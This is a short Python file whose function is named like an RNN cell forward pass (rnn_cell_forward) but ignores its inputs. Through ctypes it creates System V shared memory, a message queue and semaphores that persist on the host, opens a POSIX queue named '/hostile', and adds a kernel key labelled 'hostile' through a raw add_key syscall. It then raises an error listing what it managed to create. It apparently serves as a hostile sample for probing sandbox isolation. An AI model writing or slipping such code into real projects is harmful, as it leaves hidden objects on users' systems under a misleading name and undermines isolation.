"""Leaves shared memory, queues, semaphores and a key with the system, and says which could be made."""

import ctypes
import platform


def rnn_cell_forward(xt, a_prev, parameters):
    library = ctypes.CDLL(None)
    key = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    made = {
        "shared memory": library.shmget(0, 4096, 0o1600),
        "a queue": library.msgget(0, 0o1600),
        "semaphores": library.semget(0, 1, 0o1600),
        "a message queue": library.mq_open(b"/hostile", 0o102, 0o600, None),
        "a key": library.syscall(key, b"user", b"hostile", b"x", 1, -3),
    }
    library.mq_unlink(b"/hostile")
    raise ValueError("made " + (", ".join(name for name, number in made.items() if number != -1) or "nothing"))
